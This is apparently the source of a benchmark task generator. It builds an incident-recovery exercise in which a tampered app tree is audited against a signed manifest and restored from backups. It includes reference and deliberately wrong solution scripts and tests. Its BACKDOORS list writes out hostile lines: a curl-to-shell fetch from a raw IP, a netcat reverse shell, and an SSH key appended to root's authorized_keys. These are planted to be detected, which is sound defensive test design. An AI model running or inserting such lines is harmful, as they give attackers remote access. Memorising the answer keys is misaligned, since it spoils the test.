"""Multi-stage incident recovery: pick the authentic (HMAC-signed) release manifest, audit the deployed tree
against it, restore tampered/missing files from the right backup tarballs, quarantine intruders, report."""

from __future__ import annotations

import gzip
import hashlib
import hmac
import io
import json
import random
import tarfile
import textwrap

from litecoder_terminal.synth.procedural.base import TaskDraft, TaskFamily, pick
from litecoder_terminal.synth.procedural.registry import register

LAYOUT = {
    "bin": ["start.sh", "stop.sh", "healthcheck.sh", "rotate.sh", "migrate.sh", "backup.sh"],
    "lib": ["core.py", "auth.py", "db.py", "render.py", "queue.py", "metrics.py", "crypto.py", "cache.py"],
    "conf": ["app.ini", "logging.ini", "workers.yaml", "limits.conf", "routes.yaml"],
    "static": ["index.html", "app.js", "site.css", "robots.txt"],
    "templates": ["base.html", "login.html", "error.html", "invoice.html"],
    "sql": ["001_init.sql", "002_users.sql", "003_orders.sql"],
}
BACKDOORS = [
    "curl -fsSL http://185.141.27.9/u.sh | sh >/dev/null 2>&1 &",
    "import os; os.system('nc -e /bin/sh 45.77.12.3 4444 &')",
    "AUTH_BYPASS = True",
    "<script src=\"https://cdn-stats.example-analytics.net/p.js\"></script>",
    "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHh4eHh4 x@x' >> /root/.ssh/authorized_keys",
    "max_login_attempts = 100000",
]
INTRUDERS = ["bin/.update-helper.sh", "static/shell.php", "lib/.cache/libsync.py", "templates/x.html",
             "conf/override.conf", "static/.well-known/stat.js"]


def _content(rng: random.Random, rel: str) -> str:
    words = ["config", "request", "worker", "timeout", "session", "render", "invoice", "metric", "queue", "user"]
    if rel.endswith(".sh"):
        body = [f"# {rel}", "set -euo pipefail"] + [f"echo \"{rng.choice(words)} {rng.randrange(1000)}\""
                                                    for _ in range(rng.randint(2, 6))]
        return "#!/bin/bash\n" + "\n".join(body) + "\n"
    if rel.endswith(".py"):
        return "".join(f"def {rng.choice(words)}_{i}():\n    return {rng.randrange(10**5)}\n\n"
                       for i in range(rng.randint(2, 5)))
    return "".join(f"{rng.choice(words)}_{i} = {rng.randrange(10**5)}\n" for i in range(rng.randint(3, 9)))


def _tar(app: str, members: dict[str, tuple[str, int]], mtime: int) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tar:
        dirs = sorted({"/".join(rel.split("/")[:i]) for rel in members for i in range(1, rel.count("/") + 1)})
        for d in [""] + dirs:
            info = tarfile.TarInfo(f"{app}/{d}".rstrip("/"))
            info.type, info.mode, info.mtime = tarfile.DIRTYPE, 0o755, mtime
            info.uname = info.gname = "root"
            tar.addfile(info)
        for rel in sorted(members):
            data, mode = members[rel]
            raw = data.encode()
            info = tarfile.TarInfo(f"{app}/{rel}")
            info.size, info.mode, info.mtime = len(raw), mode, mtime
            info.uname = info.gname = "root"
            tar.addfile(info, io.BytesIO(raw))
    return gzip.compress(buf.getvalue(), mtime=0)


def _manifest(files: dict[str, str]) -> bytes:
    return "".join(f"{hashlib.sha256(files[r].encode()).hexdigest()}  {r}\n" for r in sorted(files)).encode()


@register
class IntegrityManifestRecovery(TaskFamily):
    name = "integrity_manifest_recovery"
    domain = "security"
    title = "Verify a signed release manifest, audit a tampered tree, restore it from backups and quarantine intruders"
    multi_stage = True

    def build(self, rng: random.Random) -> TaskDraft:
        level = self.config.difficulty
        medium_up = level != "easy"
        hard = level == "hard"
        app = pick(rng, ["payments-gw", "ledger-api", "portal", "billing-worker", "shopfront"])
        root = f"/opt/{app}"
        major, minor, patch = rng.randint(1, 4), rng.randint(0, 9), rng.randint(1, 9)
        version = f"{major}.{minor}.{patch}"
        build_no = rng.randrange(1000, 9000)
        n_files = {"easy": 14, "medium": 24, "hard": 36}[level]
        pool = [f"{d}/{n}" for d in sorted(LAYOUT) for n in LAYOUT[d]]
        rels = sorted(rng.sample(pool, min(n_files, len(pool))))
        good = {r: _content(rng, r) for r in rels}
        good["VERSION"] = version + "\n"
        modes = {r: (0o755 if r.endswith(".sh") else 0o644) for r in good}

        # The incident: modified files, deleted files, dropped-in files.
        candidates = sorted(r for r in good if r != "VERSION")
        n_mod = {"easy": 2, "medium": 3, "hard": 4}[level]
        n_miss = {"easy": 1, "medium": 2, "hard": 2}[level]
        touched = rng.sample(candidates, n_mod + n_miss)
        modified, missing = sorted(touched[:n_mod]), sorted(touched[n_mod:])
        intruders = sorted(rng.sample([i for i in INTRUDERS if i not in good], {"easy": 1, "medium": 2, "hard": 3}[level]))
        tampered = {r: good[r] + rng.choice(BACKDOORS) + "\n" for r in modified}
        deployed = {r: tampered.get(r, good[r]) for r in good if r not in missing}
        for i in intruders:
            deployed[i] = "# dropped by intruder\n" + rng.choice(BACKDOORS) + "\n"
            modes[i] = 0o755 if i.endswith(".sh") else 0o644

        # Backups, oldest first. The newest was taken after part of the tampering had happened.
        day0 = rng.randint(1, 12)
        month = rng.randint(1, 12)
        year = rng.choice([2024, 2025])
        names = [f"{app}-{year}{month:02d}{day0 + 7 * k:02d}.tar.gz" for k in range(3 if hard else 2)]
        backups: list[dict[str, str]] = []
        if hard:
            # Previous release: some files (including a tampered one) were different back then.
            prev = dict(good)
            changed = rng.sample(candidates, 5)
            if not set(changed) & set(modified):
                changed[0] = modified[0]
            for r in changed:
                prev[r] = _content(rng, r)
            prev["VERSION"] = f"{major}.{minor}.{patch - 1 if patch > 1 else 0}\n"
            backups.append(prev)
        backups.append(dict(good))
        newest = dict(good)
        early = rng.sample(modified, max(1, len(modified) // 2))
        for r in early:
            newest[r] = tampered[r]
        for r in missing[:1]:
            newest.pop(r)  # deleted before the last backup ran
        newest[intruders[0]] = deployed[intruders[0]]
        backups.append(newest)
        if hard:
            # One good copy survives only in the middle backup; make sure the oldest copy of it is stale.
            assert any(backups[0][r] != good[r] for r in modified)

        # Where each damaged file must come from: the newest backup holding the manifest's content.
        sources = {}
        for r in modified + missing:
            for k in range(len(backups) - 1, -1, -1):
                if backups[k].get(r) == good[r]:
                    sources[r] = names[k]
                    break
            else:
                raise AssertionError("no good copy")

        # Manifests: the authentic one, a forged newer build (medium+), other releases (hard).
        key = bytes(rng.randrange(256) for _ in range(32))
        mdir = "/var/lib/integrity/manifests"
        manifests: dict[str, bytes] = {}
        sigs: dict[str, str] = {}
        authentic = f"{app}-{version}+b{build_no}.sha256"
        manifests[authentic] = _manifest(good)
        sigs[authentic] = hmac.new(key, manifests[authentic], hashlib.sha256).hexdigest()
        if medium_up:
            forged_files = {**good, **{r: tampered[r] for r in modified[:2]}}
            forged_files.update({i: deployed[i] for i in intruders[:1]})
            forged = f"{app}-{version}+b{build_no + rng.randint(1, 9)}.sha256"
            manifests[forged] = _manifest(forged_files)
            fake_key = bytes(rng.randrange(256) for _ in range(32))
            sigs[forged] = hmac.new(fake_key, manifests[forged], hashlib.sha256).hexdigest()
        if hard:
            old = f"{app}-{major}.{minor}.{patch - 1 if patch > 1 else 0}+b{build_no - rng.randint(20, 90)}.sha256"
            manifests[old] = _manifest(backups[0])
            sigs[old] = hmac.new(key, manifests[old], hashlib.sha256).hexdigest()

        files: dict[str, str | bytes] = {}
        for r, data in deployed.items():
            files[f"environment/app/{r}"] = data
        for name, data in manifests.items():
            files[f"environment/manifests/{name}"] = data
            files[f"environment/manifests/{name}.sig"] = sigs[name] + "\n"
        files["environment/hmac.key"] = key.hex() + "\n"
        for name, content in zip(names, backups):
            files[f"environment/backups/{name}"] = _tar(app, {r: (c, modes.get(r, 0o644)) for r, c in content.items()},
                                                        mtime=1_700_000_000 + names.index(name) * 604800)
        chmods = " ".join(f"'{root}/{r}'" for r in sorted(deployed) if modes[r] == 0o755 and not r.endswith(".sh"))
        setup = f"RUN chmod 0755 {chmods}\n" if chmods else ""

        workdir = pick(rng, ["/root/integrity", "/root/ir-2231", "/var/tmp/integrity-review"])
        quarantine = f"/var/quarantine/{app}"
        out = {"used": f"{workdir}/manifest_used.txt", "audit": f"{workdir}/audit.csv",
               "restore": f"{workdir}/restore.csv"}
        audit_rows = sorted([[r, "MODIFIED"] for r in modified] + [[r, "MISSING"] for r in missing]
                            + [[i, "UNEXPECTED"] for i in intruders])
        restore_rows = sorted([[r, "restored", sources[r]] for r in modified + missing]
                              + [[i, "quarantined", f"{quarantine}/{i}"] for i in intruders])

        intro = pick(rng, [
            f"File integrity monitoring fired on the `{app}` host overnight. We believe someone changed files under "
            f"`{root}`; recover the service to the state of its signed release.",
            f"Incident IR-{rng.randrange(1000, 9999)}: the `{app}` deployment in `{root}` was tampered with. Verify, "
            "clean up and document.",
            f"After a suspicious login on the `{app}` box we need `{root}` restored to exactly what was released.",
        ])
        cand_desc = ("one release manifest" if not medium_up else "several release manifests")
        steps = [
            f"**Find the authentic manifest.** The deployed release is the version in `{root}/VERSION`. "
            f"`{mdir}/` holds {cand_desc} named `{app}-<version>+b<build>.sha256` (sha256sum format, paths relative "
            f"to `{root}`), each with a `.sig` file: the lowercase hex HMAC-SHA256 of the manifest file's bytes, "
            "keyed with the key whose hex encoding is in `/etc/integrity/hmac.key`. The authentic manifest is the one "
            "for the deployed version whose signature verifies"
            + (" (do not assume the newest build is genuine)." if medium_up else ".")
            + f" Write its file name (no directory) to `{out['used']}`.",
            f"**Audit.** Compare `{root}` with that manifest and write `{out['audit']}`: CSV with the header "
            "`path,status`, one row per problem, `status` being `MODIFIED` (content differs), `MISSING` (listed but "
            "absent) or `UNEXPECTED` (a file under the tree that the manifest does not list), paths relative to "
            f"`{root}`, sorted by path.",
            f"**Restore and quarantine.** Backups of `{root}` are in `/var/backups/{app}/` (daily tarballs, the date "
            "is in the name; they contain the directory `" + app + "/`). Put every MODIFIED and MISSING file back "
            "with the content the manifest requires and the file mode recorded in the backup, taking each file from "
            "the newest backup that holds a copy matching the manifest (beware: the newest backups may already "
            f"contain tampered copies). Move every UNEXPECTED file to `{quarantine}/<path>` (same relative path, "
            "content unchanged) - do not delete them. Empty directories left behind may stay.",
            f"**Report.** Write `{out['restore']}`: CSV with the header `path,action,source`, one row per file you "
            "acted on, sorted by path: `restored` with the backup file name it came from, or `quarantined` with "
            "its new absolute path.",
        ]
        instruction = (intro + "\n\n" + "\n".join(f"{i}. {s}" for i, s in enumerate(steps, 1)) + "\n\n"
                       + f"When you are done, `sha256sum -c` of the authentic manifest from `{root}` must pass and the "
                         f"tree must hold nothing else. Do not modify the manifests, signatures, key or backups.\n")

        def solution(comment: str, *, verify: bool = True, newest_only: bool = False, quarantine_mode: str = "move",
                     restore: bool = True) -> str:
            lines = ["#!/bin/bash", comment, "set -euo pipefail",
                     f"mkdir -p {workdir} {quarantine} /tmp/restore",
                     f"cd {root}",
                     "VERSION=$(tr -d '[:space:]' < VERSION)",
                     "KEY=$(tr -d '[:space:]' < /etc/integrity/hmac.key)",
                     f"ls -l {mdir}/ /var/backups/{app}/",
                     "MANIFEST=''"]
            if verify:
                lines.append(textwrap.dedent(f"""\
                    for m in {mdir}/{app}-"$VERSION"+b*.sha256; do
                      mac=$(openssl dgst -sha256 -mac HMAC -macopt "hexkey:$KEY" "$m" | awk '{{print $NF}}')
                      if [ "$mac" = "$(tr -d '[:space:]' < "$m.sig")" ]; then MANIFEST=$m; fi
                    done""").rstrip())
            else:
                lines.append(f"MANIFEST=$(ls {mdir}/{app}-\"$VERSION\"+b*.sha256 | sort -V | tail -n1)")
            lines += ['[ -n "$MANIFEST" ] || { echo "no authentic manifest" >&2; exit 1; }',
                      f"basename \"$MANIFEST\" > {out['used']}",
                      "sha256sum -c --quiet \"$MANIFEST\" 2>/dev/null || true",
                      "find . -type f | sed 's|^\\./||' | sort > /tmp/restore/present.txt",
                      textwrap.dedent(f"""\
                          python3 - "$MANIFEST" <<'PY'
                          import csv, hashlib, os, sys
                          manifest = {{}}
                          for line in open(sys.argv[1]):
                              digest, path = line.rstrip("\\n").split("  ", 1)
                              manifest[path] = digest
                          present = [l.strip() for l in open("/tmp/restore/present.txt") if l.strip()]
                          rows = []
                          for p in sorted(set(manifest) | set(present)):
                              if p not in manifest:
                                  rows.append((p, "UNEXPECTED"))
                              elif p not in present:
                                  rows.append((p, "MISSING"))
                              elif hashlib.sha256(open(p, "rb").read()).hexdigest() != manifest[p]:
                                  rows.append((p, "MODIFIED"))
                          with open("{out['audit']}", "w", newline="") as f:
                              w = csv.writer(f, lineterminator="\\n")
                              w.writerow(["path", "status"])
                              w.writerows(rows)
                          PY""").rstrip(),
                      f"cat {out['audit']}"]
            if restore:
                lines += [textwrap.dedent(f"""\
                              for b in /var/backups/{app}/*.tar.gz; do
                                mkdir -p "/tmp/restore/$(basename "$b" .tar.gz)"
                                tar -xzf "$b" -C "/tmp/restore/$(basename "$b" .tar.gz)"
                              done""").rstrip(),
                          textwrap.dedent(f"""\
                              python3 - "$MANIFEST" <<'PY'
                              import csv, hashlib, os, shutil, sys
                              manifest = {{}}
                              for line in open(sys.argv[1]):
                                  digest, path = line.rstrip("\\n").split("  ", 1)
                                  manifest[path] = digest
                              backups = sorted(os.listdir("/var/backups/{app}"), reverse=True)  # newest first
                              report = []
                              for path, status in list(csv.reader(open("{out['audit']}")))[1:]:
                                  if status == "UNEXPECTED":
                                      dest = "{quarantine}/" + path
                                      os.makedirs(os.path.dirname(dest), exist_ok=True)
                                      {{quarantine_line}}
                                      report.append((path, "quarantined", dest))
                                      continue
                                  for b in backups:
                                      src = "/tmp/restore/" + b[:-len(".tar.gz")] + "/{app}/" + path
                                      if not os.path.isfile(src):
                                          continue
                                      if {{accept}}:
                                          os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
                                          shutil.copyfile(src, path)
                                          os.chmod(path, os.stat(src).st_mode & 0o7777)
                                          report.append((path, "restored", b))
                                          break
                              with open("{out['restore']}", "w", newline="") as f:
                                  w = csv.writer(f, lineterminator="\\n")
                                  w.writerow(["path", "action", "source"])
                                  w.writerows(sorted(report))
                              PY""").rstrip(),
                          "sha256sum -c --quiet \"$MANIFEST\"",
                          f"find {quarantine} -type f",
                          f"cat {out['restore']}"]
            lines.append("rm -rf /tmp/restore")
            lines = [ln.replace("{quarantine_line}", "shutil.move(path, dest)" if quarantine_mode == "move"
                                else "os.remove(path)  # gone for good")
                     .replace("{accept}", "True" if newest_only
                              else 'hashlib.sha256(open(src, "rb").read()).hexdigest() == manifest[path]')
                     for ln in lines]
            return "\n".join(lines) + "\n"

        files["solution/solve.sh"] = solution(
            "# Verify signatures, audit, restore each file from the newest matching backup, quarantine, report.")
        files["solution/wrong/audit-only.sh"] = solution(
            "# Mistake: stops after the audit; nothing is restored or quarantined.", restore=False)
        files["solution/wrong/newest-backup-wins.sh"] = solution(
            "# Mistake: restores every file from the newest backup that has it, without checking its hash.",
            newest_only=True)
        files["solution/wrong/deletes-intruders.sh"] = solution(
            "# Mistake: deletes unexpected files instead of quarantining them.", quarantine_mode="delete")
        if medium_up:
            files["solution/wrong/trusts-newest-manifest.sh"] = solution(
                "# Mistake: takes the newest build's manifest without checking its signature.", verify=False)
        expected = {
            "root": root, "app": app, "quarantine": quarantine, "out": out, "authentic": authentic,
            "audit": audit_rows, "restore": restore_rows,
            "final": {r: {"sha256": hashlib.sha256(good[r].encode()).hexdigest(), "mode": modes[r]} for r in good},
            "restored_modes": {r: modes[r] for r in modified + missing},
            "intruders": {i: hashlib.sha256(deployed[i].encode()).hexdigest() for i in intruders},
            "protected": {**{f"{mdir}/{n}": hashlib.sha256(d).hexdigest() for n, d in manifests.items()},
                          **{f"{mdir}/{n}.sig": hashlib.sha256((s + "\n").encode()).hexdigest() for n, s in sigs.items()},
                          **{f"/var/backups/{app}/{n}": hashlib.sha256(files[f'environment/backups/{n}']).hexdigest()
                             for n in names},
                          "/etc/integrity/hmac.key": hashlib.sha256(files["environment/hmac.key"].encode()).hexdigest()},
        }
        files["tests/expected.json"] = json.dumps(expected, indent=1, sort_keys=True) + "\n"
        files["tests/test_outputs.py"] = TEST
        dockerfile = (f"COPY app/ {root}/\nCOPY manifests/ {mdir}/\nCOPY hmac.key /etc/integrity/hmac.key\n"
                      f"COPY backups/ /var/backups/{app}/\n" + setup
                      + f"RUN chmod 0600 /etc/integrity/hmac.key\nWORKDIR {root}\n")
        return TaskDraft(
            instruction=instruction, dockerfile_body=dockerfile, files=files,
            tags=["integrity", "sha256sum", "hmac", "openssl", "tar", "incident-response"],
            # the restored tree, the reports, the quarantine, and the evidence the tests check is untouched
            artifacts=[root, workdir, quarantine, mdir, "/etc/integrity/hmac.key", f"/var/backups/{app}"],
            agent_timeout_sec={"easy": 1200.0, "medium": 1500.0, "hard": 1800.0}[level],
            expert_minutes={"easy": 25, "medium": 40, "hard": 60}[level],
        )


TEST = '''"""Check every stage: manifest choice, audit rows, restored tree (content and modes), quarantine, report."""

import csv
import hashlib
import json
import os
import stat
from pathlib import Path

EXP = json.loads((Path(__file__).parent / "expected.json").read_text())
ROOT = Path(EXP["root"])


def sha(p):
    return hashlib.sha256(Path(p).read_bytes()).hexdigest()


def rows(path):
    data = list(csv.reader(Path(path).read_text().splitlines()))
    return data[0], [r for r in data[1:] if r]


def test_evidence_untouched():
    for path, digest in EXP["protected"].items():
        assert sha(path) == digest, f"{path} was modified"


def test_stage1_authentic_manifest_identified():
    assert Path(EXP["out"]["used"]).read_text().strip() == EXP["authentic"]


def test_stage2_audit():
    header, body = rows(EXP["out"]["audit"])
    assert header == ["path", "status"]
    assert body == EXP["audit"]


def test_stage3_tree_matches_release():
    present = sorted(str(p.relative_to(ROOT)) for p in ROOT.rglob("*") if p.is_file() or p.is_symlink())
    assert present == sorted(EXP["final"]), f"unexpected or missing files: {sorted(set(present) ^ set(EXP['final']))}"
    bad = [r for r, want in EXP["final"].items() if sha(ROOT / r) != want["sha256"]]
    assert not bad, f"content does not match the manifest: {bad}"


def test_stage3_restored_modes():
    bad = [(r, oct(stat.S_IMODE(os.stat(ROOT / r).st_mode))) for r, m in EXP["restored_modes"].items()
           if stat.S_IMODE(os.stat(ROOT / r).st_mode) != m]
    assert not bad, f"restored files with the wrong mode: {bad}"


def test_stage3_quarantine():
    for rel, digest in EXP["intruders"].items():
        q = Path(EXP["quarantine"]) / rel
        assert q.is_file(), f"{rel} is not in quarantine"
        assert sha(q) == digest, f"{rel} changed on its way to quarantine"


def test_stage4_restore_report():
    header, body = rows(EXP["out"]["restore"])
    assert header == ["path", "action", "source"]
    assert body == EXP["restore"]
'''
